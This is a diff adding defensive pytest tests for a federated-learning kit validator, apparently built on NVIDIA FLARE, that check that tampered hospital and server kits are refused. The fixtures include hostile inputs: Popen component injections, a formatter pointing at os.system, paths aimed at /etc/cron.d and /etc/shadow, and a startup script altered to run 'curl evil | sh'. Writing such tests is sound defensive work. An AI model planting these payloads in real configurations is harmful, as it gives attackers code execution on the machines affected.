@@ -1,7 +1,9 @@
 """Whoever runs provisioning leaves something out, weakens something, or adds something. No kit comes of it."""
 
 import copy
+import importlib.util
 import json
+import os
 import shutil
 from datetime import UTC, datetime
 from pathlib import Path
@@ -370,16 +372,38 @@ def test_no_pin_can_be_made_of_a_study_signed_anew(kits, forged):
         pin.make(agreed, "hospital-a", own)
 
 
+@pytest.mark.parametrize("document", ["cordon.yml", "attestation.yml"])
+def test_a_policy_that_the_hospital_replaced_does_not_come_back(kits, pinned, tmp_path, document):
+    """It is signed, but the pin names the newer one."""
+    key = signing.load_private_key((kits.parent / "state" / "cordon_keys" / "hospital-a.policy.key").read_bytes())
+    now, read = datetime.now(UTC), read_kit(kits / "hospital-a", datetime.now(UTC))
+    made = pin.make(read.study, "hospital-a", key.public_key(), read.policy_digests)
+    pinned.write_text(yaml.safe_dump(documents.body_of(made)))
+    kit = shutil.copytree(kits / "hospital-a", tmp_path / "hospital-a")
+    load_kit(kit, now)
+    path = kit / "local" / document
+    old = path.read_text()
+    weaker = old.replace("epsilon: 4.0", "epsilon: 40.0").replace("lease_s: 120", "lease_s: 86400")
+    assert weaker != old
+    path.write_text(weaker)
+    documents.signature_path(path).unlink()
+    name = {"cordon.yml": "cordon/site/v1", "attestation.yml": "cordon/attestation/v2"}[document]
+    documents.sign_file(path, name, key)
+    read_kit(kit, now)  # nothing in the kit shows it
+    with pytest.raises(SignatureError, match=r"pin\.yml: wants (site|attestation) policy"):
+        load_kit(kit, now)
+
+
 @pytest.mark.parametrize("through", ["file", "link"])
 def test_the_provisioner_pins_its_own_study_inside_the_kit(forged, tmp_path, monkeypatch, through):
     kit = shutil.copytree(forged / "hospital-a", tmp_path / "hospital-a")
     agreed = read_kit(kit, datetime.now(UTC)).study
     own = pin.make(agreed, "hospital-a", agreed.hospital("hospital-a").policy_key)
-    path = kit / "local" / "pin.yml"
+    path = kit / "pin.yml"
     path.write_text(yaml.safe_dump(documents.body_of(own)))
     if through == "link":
         path = tmp_path / "pin.yml"
-        path.symlink_to(kit / "local" / "pin.yml")
+        path.symlink_to(kit / "pin.yml")
     monkeypatch.setenv("CORDON_PIN", str(path))
     with pytest.raises(ConfigError, match="a pin inside the kit pins nothing"):
         load_kit(kit, datetime.now(UTC))
@@ -408,3 +432,228 @@ def test_resources_of_the_site_cannot_be_widened_unseen(kits):
     """FLARE's signature over the kit covers the allow-list."""
     signed = json.loads((kits / "hospital-a" / "local" / "signature.json").read_text())
     assert {"resources.json.default", "app_deployer__p_resources.json", "authorization.json.default"} <= set(signed)
+
+
+# -- FLARE's own files, which nobody signed who would count ----------------------------------------------------------
+
+POPEN = {"id": "x", "path": "subprocess.Popen", "args": {"args": ["touch", "/tmp/pwned"]}}
+EVIL = json.dumps({"components": [POPEN]})
+
+
+@pytest.mark.parametrize("name", ["server", "hospital-a"])
+@pytest.mark.parametrize(
+    ("file", "content"),
+    [
+        *((f"local/{name}", EVIL) for name in ("x__p_resources.json", "x__j_resources.json", "x__resources.json")),
+        *((f"startup/{name}", EVIL) for name in ("x__p_resources.json", "y__resources.json", "relay__resources.json")),
+        ("local/job_resources.json", EVIL),
+        ("local/resources.conf", EVIL),  # FLARE takes it before resources.json.default
+        ("local/resources.yml", EVIL),
+        ("local/collateral/resources.json", EVIL),  # and looks for it in sub-folders
+        ("startup/deep/fed_client.json", "{}"),
+        ("startup/fed_client.conf", "{}"),
+        ("startup/fed_admin.json", "{}"),
+        ("local/privacy.json", json.dumps({"scopes": [{"name": "x", "task_data_filters": [POPEN]}]})),
+        ("local/comm_config.json", '{"comm_driver_path": "/tmp/drivers"}'),  # imports all that lies there
+        ("comm_config.json", '{"comm_driver_path": "/tmp/drivers"}'),
+        ("data/deep/comm_config.yml.default", "comm_driver_path: /tmp/drivers"),
+        ("transfer/resources.json.default", '{"decomposer_module": "evil"}'),
+        ("local/study_registry.json", "{}"),
+        ("local/custom/evil.py", "x"),
+        ("local/custom/decomposers/evil.py", "x"),
+        ("startup/custom/evil.pyc", "x"),
+        ("startup/azure_start.sh", "touch /tmp/pwned"),
+        ("local/notes.txt", "x"),
+        ("nvflare/__init__.py", "x"),  # job processes start in the kit
+        ("json.py", "x"),
+        ("google/protobuf.cpython-311-x86_64-linux-gnu.so", "x"),
+    ],
+)
+def test_a_file_more_that_flare_or_python_would_act_on(kits, tmp_path, name, file, content):
+    kit = shutil.copytree(kits / name, tmp_path / name)
+    assert read_kit(kit, datetime.now(UTC))
+    path = kit / file
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(content)
+    with pytest.raises(ConfigError) as caught:
+        read_kit(kit, datetime.now(UTC))
+    named = str(caught.value).split(":")[0]
+    assert path.is_relative_to(named)  # the file, or the folder that no kit has
+    assert named != str(kit)
+
+
+def _into(*keys):
+    """Set the last of ``keys`` to a value, in place."""
+
+    def change(tree, value):
+        for key in keys[:-1]:
+            tree = tree[key]
+        tree[keys[-1]] = value
+
+    return change
+
+
+def _append(*keys):
+    def change(tree, value):
+        for key in keys:
+            tree = tree[key]
+        tree.append(value)
+
+    return change
+
+
+FORMATTER = {"()": "subprocess.Popen", "args": ["touch", "/tmp/pwned"]}
+
+
+@pytest.mark.parametrize(
+    ("file", "change", "value"),
+    [
+        ("local/log_config.json.default", _into("formatters", "x"), FORMATTER),
+        ("local/log_config.json.default", _into("formatters", "baseFormatter", "()"), "subprocess.Popen"),
+        ("local/log_config.json.default", _into("handlers", "logFileHandler", "filename"), "/etc/cron.d/x"),
+        ("local/log_config.json.default", _into("handlers", "consoleHandler", "stream"), "ext://os.system"),
+        ("local/resources.json.default", _append("components"), POPEN),
+        ("local/resources.json.default", _into("components", 0, "path"), "subprocess.Popen"),
+        ("local/resources.json.default", _into("components", 0, "args", "num_of_gpus"), POPEN),
+        ("local/resources.json.default", _into("class_allow_list"), ["*"]),
+        ("local/resources.json.default", _append("class_allow_list"), "subprocess.Popen"),
+        ("local/resources.json.default", _into("class_list_enforcement_mode"), "warn"),
+        ("local/resources.json.default", _into("allow_log_streaming"), True),
+        ("local/resources.json.default", _into("app_validator"), POPEN),
+        ("local/resources.json.default", _into("snapshot_persistor"), POPEN),
+        ("local/resources.json.default", _into("decomposer_module"), "evil"),
+        ("local/cc_manager__p_resources.json", _append("components"), POPEN),
+        ("local/cc_manager__p_resources.json", _into("components", 0, "path"), "logging.Handler"),
+        ("local/cc_manager__p_resources.json", _into("components", 0, "args", "check_interval_s"), 1e9),
+        ("local/cc_manager__p_resources.json", _into("components", 0, "args", "check_interval_s"), POPEN),
+        ("local/app_deployer__p_resources.json", _into("components", 0, "path"), "cordon.flare.deployer.AppDeployer"),
+        ("local/authorization.json.default", _into("permissions", "lead", "byoc"), "any"),
+        ("local/authorization.json.default", _into("permissions", "member"), "any"),
+        ("startup/fed_client.json", _into("components"), [POPEN]),
+        ("startup/fed_client.json", _into("require_signed_jobs"), False),
+        ("startup/fed_client.json", _into("relay_config"), {"address": "evil:1"}),
+        ("startup/fed_client.json", _into("client", "connection_security"), "clear"),
+        ("startup/fed_client.json", _into("client", "ssl_root_cert"), "/tmp/ca.pem"),
+        ("startup/fed_client.json", _into("client", "fqsn"), "hospital-b"),
+        ("startup/fed_client.json", _into("servers", 0, "identity"), "somebody"),
+        ("startup/fed_client.json", _into("servers", 0, "service", "scheme"), "uds"),
+        ("startup/fed_client.json", _into("servers", 0, "service", "target"), "a:1/../{x}"),
+    ],
+)
+def test_a_changed_setting_of_a_hospital(kits, tmp_path, file, change, value):
+    _refuses_the_change(kits / "hospital-a", tmp_path, file, change, value)
+
+
+def _refuses_the_change(original, tmp_path, file, change, value):
+    kit = shutil.copytree(original, tmp_path / original.name)
+    path = kit / file
+    tree = json.loads(path.read_text())
+    change(tree, value)
+    path.write_text(json.dumps(tree))
+    with pytest.raises(ConfigError, match=f"^{path}: "):
+        read_kit(kit, datetime.now(UTC))
+
+
+@pytest.mark.parametrize(
+    ("file", "change", "value"),
+    [
+        ("local/resources.json.default", _into("snapshot_persistor", "path"), "subprocess.Popen"),
+        ("local/resources.json.default", _into("components", 1, "args", "uri_root"), POPEN),
+        ("local/resources.json.default", _into("components", 1, "args", "uri_root"), "relative"),
+        ("local/app_validator__p_resources.json", _into("app_validator", "path"), "logging.Handler"),
+        ("startup/fed_server.json", _into("servers", 0, "ssl_private_key"), "/etc/shadow"),
+        ("startup/fed_server.json", _into("servers", 0, "connection_security"), "tls"),
+        ("startup/fed_server.json", _into("app_validator"), POPEN),
+    ],
+)
+def test_a_changed_setting_of_the_coordinator(kits, tmp_path, file, change, value):
+    _refuses_the_change(kits / "server", tmp_path, file, change, value)
+
+
+@pytest.mark.parametrize(
+    ("name", "file"),
+    [
+        ("server", "local/cc_manager__p_resources.json"),
+        ("hospital-a", "local/cc_manager__p_resources.json"),
+        ("hospital-a", "local/app_deployer__p_resources.json"),
+        ("server", "local/app_validator__p_resources.json"),
+        ("hospital-a", "local/authorization.json.default"),
+        ("hospital-a", "local/resources.json.default"),
+        ("hospital-a", "local/log_config.json.default"),
+    ],
+)
+def test_a_file_less(kits, tmp_path, name, file):
+    """Without them FLARE starts all the same: unattested, with no gate for jobs, everybody allowed everything."""
+    kit = shutil.copytree(kits / name, tmp_path / name)
+    (kit / file).unlink()
+    with pytest.raises(ConfigError, match=f"{kit / file.removesuffix('.default')}: missing"):
+        read_kit(kit, datetime.now(UTC))
+
+
+@pytest.mark.parametrize("file", ["authorization.json", "log_config.json", "resources.json"])
+def test_a_file_that_wins_over_the_default(kits, tmp_path, file):
+    kit = shutil.copytree(kits / "hospital-a", tmp_path / "hospital-a")
+    shutil.copy(kit / "local" / f"{file}.default", kit / "local" / file)
+    assert read_kit(kit, datetime.now(UTC))
+    (kit / "local" / file).write_text(EVIL)
+    with pytest.raises(ConfigError, match=f"^{kit / 'local' / file}: "):
+        read_kit(kit, datetime.now(UTC))
+
+
+@pytest.mark.parametrize("script", ["start.sh", "sub_start.sh", "stop_fl.sh"])
+def test_a_changed_script(kits, tmp_path, script):
+    kit = shutil.copytree(kits / "hospital-a", tmp_path / "hospital-a")
+    path = kit / "startup" / script
+    path.write_text(path.read_text().replace("echo", "curl evil | sh; echo", 1) + "true\n")
+    with pytest.raises(ConfigError, match=f"{script}: not the script"):
+        read_kit(kit, datetime.now(UTC))
+
+
+@pytest.mark.parametrize("what", ["file", "folder", "startup", "elsewhere", "pipe"])
+def test_a_link_or_a_pipe_in_the_kit(kits, tmp_path, what):
+    kit = shutil.copytree(kits / "hospital-a", tmp_path / "hospital-a")
+    path = kit / "local" / "cordon.yml"
+    if what == "file":
+        path.rename(tmp_path / "cordon.yml")
+        path.symlink_to(tmp_path / "cordon.yml")
+    elif what == "folder":
+        path = kit / "local" / "mappings"
+        path.rename(tmp_path / "mappings")
+        path.symlink_to(tmp_path / "mappings")
+    elif what == "startup":
+        path = kit / "startup"
+        path.rename(tmp_path / "startup")
+        path.symlink_to(tmp_path / "startup")
+    elif what == "elsewhere":
+        path = kit / "google"
+        path.symlink_to(tmp_path)
+    else:
+        path = kit / "local" / "privacy.json.sample"
+        path.unlink()
+        os.mkfifo(path)
+    with pytest.raises(ConfigError, match=f"^{path}: "):
+        read_kit(kit, datetime.now(UTC))
+
+
+def test_the_image_starts_nothing_of_such_a_kit(repo_root, kits, tmp_path, monkeypatch, capsys):
+    spec = importlib.util.spec_from_file_location("cordon_entrypoint", repo_root / "docker" / "entrypoint.py")
+    entrypoint = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(entrypoint)
+    kit, workspace = shutil.copytree(kits / "hospital-a", tmp_path / "hospital-a"), tmp_path / "workspace"
+    workspace.mkdir()
+    started = []
+    monkeypatch.setattr(entrypoint, "KIT", kit)
+    monkeypatch.setattr(entrypoint, "WORKSPACE", workspace)
+    monkeypatch.setattr(entrypoint.os, "execve", lambda *arguments: started.append(arguments))
+    entrypoint.main(["start", "client"])
+    ((_, arguments, _),) = started
+    assert str(workspace) in arguments  # what is mounted may change now
+    started.clear()
+    for file in ("local/log_config.json", "local/x__p_resources.json"):
+        (kit / file).write_text(EVIL)
+        assert entrypoint.main(["start", "client"]) == 3
+        assert f"{workspace / file}: " in capsys.readouterr().err
+        (kit / file).unlink()
+    (workspace / "os.py").write_text("")
+    assert entrypoint.main(["start", "client"]) == 3
+    assert not started
